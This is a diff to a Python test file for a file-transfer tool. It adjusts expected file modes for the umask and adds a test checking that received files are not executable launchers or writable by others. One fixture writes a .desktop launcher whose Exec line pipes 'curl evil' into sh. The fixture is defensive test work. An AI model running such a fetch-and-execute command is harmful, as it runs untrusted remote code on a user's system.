@@ -52,7 +52,7 @@ def tree(short_tmp: Path) -> Path:
     (top / "private").write_text("secret")
     (top / "private").chmod(0o600)
     (top / "group-writable").write_text("shared")
-    (top / "group-writable").chmod(0o666)  # bits a typical umask (022) would take away
+    (top / "group-writable").chmod(0o666)  # bits the local user's umask (022) takes away
     for path in sorted(top.rglob("*"), reverse=True):
         os.utime(path, (MTIME, MTIME))
     os.utime(top, (MTIME, MTIME))
@@ -62,7 +62,35 @@ def tree(short_tmp: Path) -> Path:
 def test_send_tree_arrives_byte_identical_with_modes_and_mtimes(forward, remote_home, save_dir, tree):
     result = run_rtun(["send", "-q", str(tree)], remote_home, timeout=120)
     assert result.returncode == 0, result.stderr
-    assert snapshot(save_dir / "project") == snapshot(tree)
+    umask = _umask()  # the daemon's, inherited from this test
+    expected = {rel: (kind, mode & ~umask, *rest) if kind != "link" else (kind, mode, *rest)
+                for rel, (kind, mode, *rest) in snapshot(tree).items()}
+    assert snapshot(save_dir / "project") == expected
+    assert stat.S_IMODE((save_dir / "project" / "group-writable").stat().st_mode) == 0o666 & ~umask
+
+
+def _umask() -> int:
+    mask = os.umask(0o022)
+    os.umask(mask)
+    return mask
+
+
+def test_nothing_arrives_as_a_runnable_launcher_or_writable_by_others(forward, remote_home, save_dir, short_tmp):
+    top = short_tmp / "drop"
+    top.mkdir()
+    (top / "open-me.desktop").write_text("[Desktop Entry]\nExec=sh -c 'curl evil | sh'\n")
+    (top / "readme.txt").write_text("\ufeff".encode().decode() + "\n[Desktop Entry]\nExec=x\n")
+    (top / "tool").write_text("#!/bin/sh\necho hi\n")
+    (top / "wide").mkdir()
+    for path, mode in ((top / "open-me.desktop", 0o777), (top / "readme.txt", 0o755), (top / "tool", 0o777),
+                       (top / "wide", 0o777)):
+        path.chmod(mode)
+    result = run_rtun(["send", "-q", str(top)], remote_home)
+    assert result.returncode == 0, result.stderr
+    modes = {p.name: stat.S_IMODE(p.stat().st_mode) for p in (save_dir / "drop").iterdir()}
+    umask = _umask()
+    assert modes == {"open-me.desktop": 0o666 & ~umask, "readme.txt": 0o644 & ~umask,
+                     "tool": 0o777 & ~umask, "wide": 0o777 & ~umask}
 
 
 def test_send_prints_the_final_local_path_of_each_file(forward, remote_home, save_dir, short_tmp):
